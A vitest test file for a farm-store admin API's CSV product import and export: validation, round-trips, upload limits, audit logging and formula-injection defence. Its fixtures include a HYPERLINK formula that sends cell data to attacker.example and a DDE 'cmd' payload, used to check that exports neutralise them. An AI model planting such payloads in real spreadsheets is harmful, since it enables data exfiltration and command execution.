import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { messages, PRODUCT_CSV_COLUMNS, productImportResponse, type ProductCsvColumn } from '@krishi/contract';
import type { TestApp } from '../../test/helper.js';
import { adminCatalogueApp, api, type Operator } from '../../test/admin.js';

let t: TestApp;
let admin: Operator;
let categoryId: number;
let sellerId: number;

beforeAll(async () => {
  ({ t, admin, categoryId, sellerId } = await adminCatalogueApp(10));
});

afterAll(async () => {
  await t.close();
});

async function productCount(): Promise<number> {
  const [row] = await t.database.rawTransaction((tx) =>
    tx.query<{ n: number }>('SELECT count(*)::int AS n FROM products'),
  );
  return row!.n;
}

/** A CSV of `count` new products, one variant each; `change` edits a record's cells. */
function newProductsCsv(
  count: number,
  change: (index: number, cells: Record<ProductCsvColumn, string>) => void = () => {},
) {
  const records = Array.from({ length: count }, (_, i) => {
    const cells = Object.fromEntries(PRODUCT_CSV_COLUMNS.map((c) => [c, ''])) as Record<ProductCsvColumn, string>;
    Object.assign(cells, {
      product_ref: `new-${i}`,
      title_en: `Imported seed ${i}`,
      title_kn: `ಬೀಜ ${i}`,
      brand_en: 'Krishi Test',
      description_en: 'Grows, with "quotes", commas and\na second line',
      category_id: String(categoryId),
      seller_id: String(sellerId),
      status: 'ACTIVE',
      crop_tags: 'paddy|maize',
      variant_en: '1 kg',
      price: '499.50',
      sale_price: '450',
      inventory: '25',
      available: 'true',
      weight: '1',
    });
    change(i, cells);
    return PRODUCT_CSV_COLUMNS.map((c) => cells[c]);
  });
  return stringify([[...PRODUCT_CSV_COLUMNS], ...records]);
}

/** The storefront's newest products of the seller the imports use. */
const sellerListing = () => ({
  method: 'POST' as const,
  url: '/api/eproduct/products?pageNum=0&pageSize=40',
  payload: { sellerId },
});

const importCsv = (csv: string, dryRun: boolean) =>
  t.app.inject({
    method: 'POST',
    url: api(`/products/import?dryRun=${dryRun}`),
    headers: { ...admin.headers, 'content-type': 'text/csv' },
    payload: csv,
  });

/** Three bad rows among 1,000: a sale price above the price, no English title, a price that is not rupees. */
const withThreeBadRows = () =>
  newProductsCsv(1000, (i, cells) => {
    if (i === 99) cells.sale_price = '600';
    if (i === 500) cells.title_en = '';
    if (i === 899) cells.price = 'abc';
  });

describe('CSV import of products', () => {
  it('a dry run of 1,000 products with 3 bad rows reports exactly those 3 and writes nothing', async () => {
    const before = await productCount();
    const response = await importCsv(withThreeBadRows(), true);
    expect(response.statusCode, response.body).toBe(200);
    const { data, message } = productImportResponse.parse(response.json());
    expect(message).toBe(messages.adminCsvHasErrors(3));
    expect(data.rows).toBe(1000);
    // The header is row 1: the 100th record is row 101.
    expect(data.errors).toEqual([
      { row: 101, column: 'sale_price', message: messages.adminSalePriceAbovePrice },
      { row: 502, column: 'title_en', message: messages.adminEnglishRequired },
      { row: 901, column: 'price', message: messages.adminCsvRupees },
    ]);
    expect(await productCount()).toBe(before);
  });

  it('refuses a real run with bad rows, listing them and writing nothing', async () => {
    const before = await productCount();
    const response = await importCsv(withThreeBadRows(), false);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      message: messages.adminCsvHasErrors(3),
      code: 'adminCsvRowsHaveErrors',
      params: { count: 3 },
    });
    expect(response.json().errorDetails.map((e: { row: number }) => e.row)).toEqual([101, 502, 901]);
    expect(await productCount()).toBe(before);
  });

  it('imports 1,000 clean products in one go, well under a few seconds, on the storefront at once', async () => {
    const before = await productCount();
    // The seller's listing is answered (and cached) before the import.
    expect((await t.app.inject(sellerListing())).statusCode).toBe(200);
    const started = performance.now();
    const response = await importCsv(newProductsCsv(1000), false);
    const elapsed = performance.now() - started;
    expect(response.statusCode, response.body).toBe(200);
    expect(productImportResponse.parse(response.json()).data).toMatchObject({
      dryRun: false,
      rows: 1000,
      productsCreated: 1000,
      variantsCreated: 1000,
      errors: [],
    });
    expect(elapsed).toBeLessThan(5000);
    expect(await productCount()).toBe(before + 1000);
    const [row] = await t.database.rawTransaction((tx) =>
      tx.query<{ id: number }>("SELECT id FROM products WHERE title->>'en' = 'Imported seed 999'"),
    );
    const listing = await t.app.inject({ ...sellerListing(), headers: {} });
    expect(listing.json().content.map((p: { id: number }) => p.id)).toContain(row!.id);
    const product = await t.app.inject({ method: 'GET', url: `/api/eproduct/${row!.id}` });
    expect(product.statusCode, product.body).toBe(200);
    expect(product.json().data.title).toEqual({ en: 'Imported seed 999', kn: 'ಬೀಜ 999' });
    expect(product.json().data.variants[0]).toMatchObject({ price: 49950, salePrice: 45000, inventory: 25 });
  });

  it('round-trips: an export imports back unchanged, and an edited cell changes only that variant', async () => {
    const exported = await t.app.inject({ method: 'GET', url: api('/products/export.csv'), headers: admin.headers });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toContain('text/csv');
    const csv = exported.body;
    expect(csv.slice(0, csv.indexOf('\n'))).toBe(PRODUCT_CSV_COLUMNS.join(','));
    const unchanged = await importCsv(csv, false);
    expect(unchanged.statusCode, unchanged.body).toBe(200);
    expect(productImportResponse.parse(unchanged.json()).data).toMatchObject({
      productsCreated: 0,
      productsUpdated: 0,
      variantsCreated: 0,
      variantsUpdated: 0,
      errors: [],
    });

    const [header, ...records] = parse(csv) as string[][];
    const column = (name: ProductCsvColumn) => header!.indexOf(name);
    const record = records.find((r) => r[column('title_en')] === 'Imported seed 7')!;
    record[column('price')] = '520.00';
    record[column('sale_price')] = '';
    record[column('inventory')] = '30';
    const edited = await importCsv(stringify([header!, ...records]), false);
    expect(edited.statusCode, edited.body).toBe(200);
    expect(productImportResponse.parse(edited.json()).data).toMatchObject({ productsUpdated: 0, variantsUpdated: 1 });
    const product = await t.app.inject({ method: 'GET', url: `/api/eproduct/${record[column('product_id')]}` });
    expect(product.json().data.variants[0]).toMatchObject({ price: 52000, salePrice: null, inventory: 30 });
  });

  it('reads the file from a form upload as the back office sends it', async () => {
    const boundary = 'formboundary';
    const response = await t.app.inject({
      method: 'POST',
      url: api('/products/import?dryRun=true'),
      headers: { ...admin.headers, 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload: Buffer.concat([
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="p.csv"\r\nContent-Type: text/csv\r\n\r\n`,
        ),
        Buffer.from(newProductsCsv(2)),
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]),
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(productImportResponse.parse(response.json())).toMatchObject({
      message: messages.adminCsvChecked,
      data: { dryRun: true, rows: 2, productsCreated: 2, errors: [] },
    });
  });

  it('refuses a file without the product columns', async () => {
    const response = await importCsv('name,price\nSeeds,10\n', true);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ message: messages.adminCsvInvalid });
  });

  it('refuses an upload over the size limit with 413', async () => {
    const huge = `${PRODUCT_CSV_COLUMNS.join(',')}\n${'x'.repeat(11 * 1024 * 1024)}`;
    const response = await importCsv(huge, true);
    expect(response.statusCode).toBe(413);
    const boundary = 'csvboundary';
    const multipart = await t.app.inject({
      method: 'POST',
      url: api('/products/import?dryRun=true'),
      headers: { ...admin.headers, 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload: Buffer.concat([
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="p.csv"\r\nContent-Type: text/csv\r\n\r\n`,
        ),
        Buffer.from(huge),
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]),
    });
    expect(multipart.statusCode).toBe(413);
    expect(multipart.json()).toMatchObject({ message: messages.adminCsvTooLarge });
  });

  it('records the import in the audit log', async () => {
    const log = await t.app.inject({ method: 'GET', url: api('/audit?entity=product'), headers: admin.headers });
    const imports = log.json().content.filter((e: { action: string }) => e.action === 'products.import');
    expect(imports.length).toBeGreaterThanOrEqual(2);
    expect(imports.at(-1)).toMatchObject({ actor: { userId: admin.userId }, after: { productsCreated: 1000 } });
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  /** What a seller might type to make an operator's spreadsheet run something. */
  const formulas = {
    title_en: '=HYPERLINK("https://attacker.example/?d="&A1,"Seeds")',
    brand_en: "+cmd|' /C calc'!A0",
    description_en: '-2+3',
    application_en: '@SUM(A1:A9)',
    features_en: "'=already quoted once",
  } satisfies Partial<Record<ProductCsvColumn, string>>;

  async function exportedRecordOf(title: string): Promise<{ csv: string; cells: Record<ProductCsvColumn, string> }> {
    const exported = await t.app.inject({ method: 'GET', url: api('/products/export.csv'), headers: admin.headers });
    const [header, ...records] = parse(exported.body) as string[][];
    const record = records.find((r) => r[header!.indexOf('title_en')] === `'${title}`)!;
    expect(record, 'the product is in the export').toBeDefined();
    const cells = Object.fromEntries(header!.map((name, i) => [name, record[i]!])) as Record<ProductCsvColumn, string>;
    return { csv: exported.body, cells };
  }

  beforeAll(async () => {
    const created = await importCsv(
      // A text that itself starts with a quote before `=` is written in a CSV with one more quote.
      newProductsCsv(1, (_i, cells) =>
        Object.assign(cells, { product_ref: 'formulas' }, formulas, { features_en: `'${formulas.features_en}` }),
      ),
      false,
    );
    expect(created.statusCode, created.body).toBe(200);
  });

  it('the export writes each with a single quote in front, so it shows as text', async () => {
    const { cells } = await exportedRecordOf(formulas.title_en);
    expect(cells.title_en).toBe(`'${formulas.title_en}`);
    expect(cells.brand_en).toBe(`'${formulas.brand_en}`);
    expect(cells.description_en).toBe(`'${formulas.description_en}`);
    expect(cells.application_en).toBe(`'${formulas.application_en}`);
    expect(cells.features_en).toBe(`'${formulas.features_en}`);
    // Numbers are never negative: a price is written as the number it is.
    expect(cells.price).toBe('499.50');
  });

  it('the export imports back unchanged, every text exactly as the seller wrote it', async () => {
    const { csv, cells } = await exportedRecordOf(formulas.title_en);
    const again = await importCsv(csv, false);
    expect(again.statusCode, again.body).toBe(200);
    expect(productImportResponse.parse(again.json()).data).toMatchObject({ productsUpdated: 0, variantsUpdated: 0 });
    const product = await t.app.inject({ method: 'GET', url: `/api/eproduct/${cells.product_id}` });
    const data = product.json().data as Record<string, { en: string }>;
    expect(data.title!.en).toBe(formulas.title_en);
    expect(data.brand!.en).toBe(formulas.brand_en);
    expect(data.description!.en).toBe(formulas.description_en);
    expect(data.application!.en).toBe(formulas.application_en);
    expect(data.features!.en).toBe(formulas.features_en);
  });

  it('a quoted negative number in a numeric column is refused as the negative number it is', async () => {
    const response = await importCsv(
      newProductsCsv(1, (_i, cells) =>
        Object.assign(cells, { product_ref: 'negative', price: "'-5", inventory: "'-1" }),
      ),
      true,
    );
    expect(productImportResponse.parse(response.json()).data.errors).toEqual([
      { row: 2, column: 'price', message: messages.adminCsvRupees },
      { row: 2, column: 'inventory', message: messages.adminInventoryInvalid },
    ]);
  });
});
